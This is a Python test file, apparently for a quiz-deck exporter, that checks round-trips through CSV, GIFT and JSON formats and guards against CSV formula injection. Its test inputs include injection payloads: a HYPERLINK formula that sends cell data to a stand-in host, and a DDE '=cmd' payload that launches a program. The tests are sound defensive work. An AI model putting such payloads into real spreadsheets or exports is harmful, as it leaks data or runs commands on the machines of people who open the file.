"""Questions that are written and read again: the same, but for what was said to be lost."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings

from content.deck import QUESTION, DeckQuestion
from content.exporters.write import export
from tests.content.exporters.decks import questions, read_again, there_and_back

OFTEN = settings(max_examples=400, deadline=None, database=None)
FORMULA = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")

# What a loss says, and the fields that may then differ.
WORDS: dict[str, set[str]] = {
    "no place for the id:": {"id"},
    "no place for the source:": {"source"},
    "no place for the § that are cited:": {"cite"},
    "no place for whose claim it is:": {"claim"},
    "no place for the difficulty:": {"difficulty"},
    "no place for the day of the last comparison with the source:": {"as_of"},
    "no place for the unit:": {"unit"},
    "Tags with ": {"tags"},
    "The options come back in the order of the alphabet:": {"options", "key"},
    "The tolerance is left out,": {"tolerance"},
    "Further right answers are left out,": {"accept"},
    "becomes one with plain options:": {"kind"},
}


@pytest.mark.parametrize("format", ["offramp", "json"])
@OFTEN
@given(question=questions())
def test_our_own_formats_hold_everything(format: str, question: DeckQuestion) -> None:
    assert there_and_back(question, format) == (set(), ())


@pytest.mark.parametrize("format", ["csv", "gift"])
@OFTEN
@given(question=questions())
def test_what_differs_after_reading_it_again_was_told_and_nothing_else(format: str, question: DeckQuestion) -> None:
    exported = export([question], format)
    if any(loss.startswith("Left out, ") for loss in exported.losses):
        assert len(exported.losses) == 1
        return
    differ, losses = there_and_back(question, format)
    told = [fields for loss in losses for words, fields in WORDS.items() if words in loss]
    assert len(told) == len(losses)
    assert differ <= set().union(*told)
    assert all(fields & differ for fields in told)


@OFTEN
@given(question=questions())
def test_no_cell_of_a_table_begins_like_a_formula(question: DeckQuestion) -> None:
    rows = csv.reader(io.StringIO(export([question], "csv").text, newline=""))
    assert [cell for row in rows for cell in row if cell.startswith(FORMULA)] == []


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1",
        "-1",
        "- a list",
        "@SUM(A1)",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        '=HYPERLINK("http://a.example?x="&A1,"y")',
        "=cmd|' /C calc'!A0",
        "'=1",
        "''=1",
        "'quoted'",
        "'",
    ],
)
def test_a_text_like_a_formula_survives_a_table(text: str) -> None:
    question = QUESTION.validate_python(
        {"kind": "typed", "prompt": text, "key": text, "source": text, "as_of": "2026-01-31"}
    )
    (again,) = read_again(export([question], "csv").text, "csv")
    assert (again.prompt, again.source, again) == (text, text, again.model_copy(update={"key": text}))
